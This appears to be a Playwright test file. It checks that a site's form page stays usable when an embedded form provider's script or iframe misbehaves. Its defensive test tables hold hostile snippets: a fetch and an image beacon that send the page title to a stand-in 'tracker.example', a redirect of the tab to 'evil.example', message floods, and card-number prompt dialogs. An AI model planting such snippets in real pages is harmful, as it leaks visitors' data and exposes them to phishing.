// The form provider's script or frame misbehaves. The page stays usable, with the phone number in sight.
import type { Page } from '@playwright/test'
import { expect, openPageWith, test, thePageWith } from '../fixtures.ts'
import { formOrigin, standIn, usesFrame, usesScript } from '../provider.ts'

/** Greatest height of a form's frame in px (app/forms/frames.ts). */
const TALLEST_FRAME = 6_000

/** A line that the hostile script or frame writes when it has done its work. */
const DONE = 'hostile work done'

/** Opens the page of a form and waits until the hostile code has run. */
async function openHostilePage(page: Page): Promise<void> {
  const ran = page.waitForEvent('console', (message) => message.text() === DONE)
  await openPageWith(page, 'a form')
  await ran
}

/** The phone and the heading are in sight, and a link leads to a page without a trace of the provider. */
async function expectUsable(page: Page): Promise<void> {
  const main = page.getByRole('main')
  await expect(page).toHaveURL(thePageWith('a form').path)
  await expect(main.locator('a[href^="tel:"]').filter({ visible: true }).first()).toBeVisible()
  await expect(main.getByRole('heading', { level: 1 })).toBeVisible()
  await page.getByRole('banner').getByRole('link').first().click()
  await expect(page).toHaveURL('/')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  expect(page.frames()).toHaveLength(1)
}

const scripts: [what: string, script: string, expectedLines: RegExp[]][] = [
  ['throws', 'queueMicrotask(done); throw new Error("provider")', [/^page error: provider/]],
  ['does nothing', 'done()', []],
  [
    'throws in every callback',
    'setInterval(() => { done(); throw new Error("provider") }, 20)',
    [/^page error: provider/],
  ],
  [
    'rejects 200 promises',
    'for (let i = 0; i < 200; i++) Promise.reject(new Error("provider")); done()',
    [/^page error: provider/],
  ],
  ['keeps the page busy', 'const end = Date.now() + 500; while (Date.now() < end); done()', []],
  [
    'floods the page with messages',
    'for (let i = 0; i < 3000; i++) postMessage({ type: "secure-form-height", height: i }, "*"); done()',
    [],
  ],
  [
    'adds inline scripts and styles',
    `const s = document.createElement("script"); s.textContent = "window.injected = true"; document.head.append(s)
     document.body.setAttribute("style", "display: none"); done()`,
    [/Content Security Policy/],
  ],
  [
    'sends data to another origin',
    `new Image().src = "https://tracker.example/p.gif"
     fetch("https://tracker.example/?" + document.title).catch(() => done())`,
    [/Content Security Policy/, /tracker\.example/],
  ],
]

if (usesScript) {
  for (const [what, script, lines] of scripts) {
    test(`the provider's script ${what}`, async ({ page, noise }) => {
      noise.expect(...lines)
      await standIn(page, { script: `{ const done = () => console.info('${DONE}');\n${script} }` })
      await openHostilePage(page)
      await expectUsable(page)
    })
  }

  test('the provider’s script rewrites the page: the header stays, and the next page is clean', async ({
    page,
    noise,
  }) => {
    noise.expect(/^console error: .*(?:removeChild|insertBefore)/s, /^page error: /)
    const script = `document.querySelector("main").innerHTML = "<h1>Pay here</h1>"; console.info('${DONE}')`
    await standIn(page, { script })
    await openHostilePage(page)
    await page.getByRole('banner').getByRole('link').first().click()
    await expect(page).toHaveURL('/')
    await expect(page.getByText('Pay here')).toHaveCount(0)
  })
}

const heights = '(height) => parent.postMessage({ type: "secure-form-height", height }, "*")'

const frames: [what: string, frame: string, expectedLines: RegExp[]][] = [
  ['reports a huge height', `(${heights})(1e9); parent.postMessage("setHeight:999999999:x", "*"); done()`, []],
  [
    'reports heights that are not positive numbers',
    `for (const height of [-1, NaN, Infinity, "9e9", {}, null]) (${heights})(height); done()`,
    [],
  ],
  [
    'floods the page with messages',
    `let rounds = 0
     const flood = () => { for (let i = 0; i < 100; i++) (${heights})(300 + i); if (++rounds === 3) done() }
     setInterval(flood, 20)`,
    [],
  ],
  // The page still answers, because the frame has a process of its own.
  [
    'is busy for ten seconds',
    'setTimeout(() => { done(); const end = Date.now() + 10000; while (Date.now() < end); }, 50)',
    [],
  ],
  [
    'navigates the tab to another site',
    'try { top.location = "https://evil.example/" } catch {} ; done()',
    [/navigat/i],
  ],
  [
    'tries to change the page around it',
    'try { top.document.body.innerHTML = "" } catch {} ; try { parent.document.title = "" } catch {} ; done()',
    [],
  ],
  [
    'opens dialogs',
    'done(); alert("Pay here"); confirm("Sure?"); prompt("Card number")',
    [/dialog|alert|confirm|prompt/i],
  ],
]

if (usesFrame) {
  for (const [what, frame, lines] of frames) {
    test(`the provider's frame ${what}`, async ({ page, noise }) => {
      noise.expect(...lines)
      await standIn(page, { frame: `const done = () => console.info('${DONE}');\n${frame}` })
      await openHostilePage(page)
      const box = await page.locator('main iframe').boundingBox()
      expect(box?.height ?? 0).toBeLessThanOrEqual(TALLEST_FRAME)
      await expectUsable(page)
    })
  }

  test('a message from another origin, or from another window of the provider, moves nothing', async ({ page }) => {
    await standIn(page)
    await openPageWith(page, 'a form')
    const frame = page.locator('main iframe')
    await expect(page.locator('[data-state]')).toHaveAttribute('data-state', 'ready')
    await frame.focus()
    const before = await frame.boundingBox()
    await page.evaluate(async (provider) => {
      const data = { type: 'secure-form-height', height: 4_000 }
      for (const origin of [location.origin, 'https://evil.example', provider])
        dispatchEvent(new MessageEvent('message', { origin, data }))
      await new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn)))
    }, formOrigin)
    expect(await frame.boundingBox()).toEqual(before)
  })
}
